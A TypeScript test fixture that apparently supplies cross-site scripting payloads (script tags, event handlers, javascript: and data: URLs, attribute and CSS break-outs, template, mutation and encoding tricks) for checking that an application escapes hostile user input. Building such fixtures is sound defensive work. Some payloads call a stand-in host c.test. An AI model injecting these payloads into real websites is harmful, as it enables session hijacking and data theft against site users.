/**
 * What an attacker types. Each would call `z9()`, which only tests define and no element has a property of, or reach
 * the host c.test, if anything took it for more than a text.
 */
export interface HostileText {
  kind: string
  /** As long as it likes. */
  long: string
  /** At most 40 characters, the shortest field there is. */
  short: string
}

const IMG = '<img src=q onerror=z9()>'

export const HOSTILE_TEXTS: readonly HostileText[] = [
  {
    kind: 'script tag',
    long: '<script>z9()</script><SCRIPT SRC=//c.test/1.js></SCRIPT><scr<script>ipt>z9()</scr</script>ipt>',
    short: '<script>z9()</script>',
  },
  { kind: 'img onerror', long: `${IMG}<IMG """><video src=q onerror=z9()><body onload=z9()>`, short: IMG },
  {
    kind: 'svg onload',
    long: '<svg onload=z9()><svg><animate onbegin=z9() attributeName=x dur=1s><set href="javascript:z9()">',
    short: '<svg/onload=z9()>',
  },
  {
    kind: 'javascript: link',
    long: '<a href="javascript:z9()">k</a><a href="java\tscript:z9()">k</a><a href="&#1;javascript:z9()" target=_self>k</a>',
    short: '<a href=javascript:z9()>k</a>',
  },
  {
    kind: 'data: link',
    long: '<a href="data:text/html,<script>opener.z9()</script>">k</a><object data="data:text/html,<script>top.z9()</script>">',
    short: '<a href=data:text/html,<svg/onload=z9()>',
  },
  {
    kind: 'attribute break-out',
    long: `" onmouseover="z9()" autofocus onfocus="z9()" style="background:url(//c.test/a)" ' onpointerover='z9()' \` onclick=z9() `,
    short: `"'autofocus tabindex=1 onfocus=z9() q="'`,
  },
  {
    kind: 'script and title break-out',
    long: `</script></title></textarea></style></noscript></iframe>--></xmp>${IMG}`,
    short: `</script>${IMG}`,
  },
  {
    kind: 'CSS',
    long: `red;background:url(//c.test/a)}*{background:url(//c.test/b)}</style><style>@import '//c.test/c';x{width:expression(z9())}`,
    short: '}*{background:url(//c.test)}</style>',
  },
  {
    kind: 'template',
    long: `{{constructor.constructor('z9()')()}}\${z9()}<%= z9() %>#{z9()}{{{z9()}}}[[z9()]]<div v-html="z9()" ng-init="z9()">`,
    short: `{{z9()}}\${z9()}<%=z9()%>$&$'$\`$1`,
  },
  { kind: 'comment', long: `<!--><!-- --!>${IMG}<!-- <![CDATA[ ]]>${IMG}<? z9() ?>`, short: `<!-->${IMG}--!>` },
  {
    kind: 'frame',
    long: '<iframe srcdoc="<script>parent.z9()</script>"></iframe><iframe src="javascript:parent.z9()"></iframe><embed src=//c.test/e>',
    short: '<iframe src=javascript:parent.z9()>',
  },
  {
    kind: 'base, refresh and form',
    long: '<base href=//c.test/><meta http-equiv=refresh content="0;url=//c.test/m"><form action=//c.test/f><input name=a><button formaction=javascript:z9()>',
    short: '<base href=//c.test><form action=//c.te>',
  },
  {
    kind: 'mutation',
    long: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=q onerror=z9()&gt;"><svg></p><style><a id="</style><img src=q onerror=z9()>">',
    short: `<math><style>${IMG.slice(0, 27)}`,
  },
  {
    kind: 'odd characters',
    long: '＜script＞z9()＜/script＞%3Cscript%3Ex()%3C/script%3E&lt;script&gt;z9()&#60;/script&#62;\\u003cscript\\u003ex() +ADw-script+AD4-z9() <sc\u00adript>z9()</sc\u00adript> ʺonload=z9()',
    short: '＜script＞z9()%3Cscript%3E&lt;script&gt;',
  },
]

const size = (text: string) => Array.from(text).length

/** The text of that number, counted round, as long as the field takes it. */
export function hostile(number: number, max = Number.POSITIVE_INFINITY): string {
  const text = HOSTILE_TEXTS[number % HOSTILE_TEXTS.length] as HostileText
  return size(text.long) <= max ? text.long : text.short
}

/** As many of the texts as a field takes, beginning with that number: for records there is only one of. */
export function hostileMix(number: number, max: number): string {
  let mix = ''
  for (let at = 0; at < HOSTILE_TEXTS.length; at++) {
    const text = hostile(number + at, 0)
    if (size(mix) + size(text) + 1 <= max) mix = `${mix} ${text}`.trim()
  }
  return mix
}
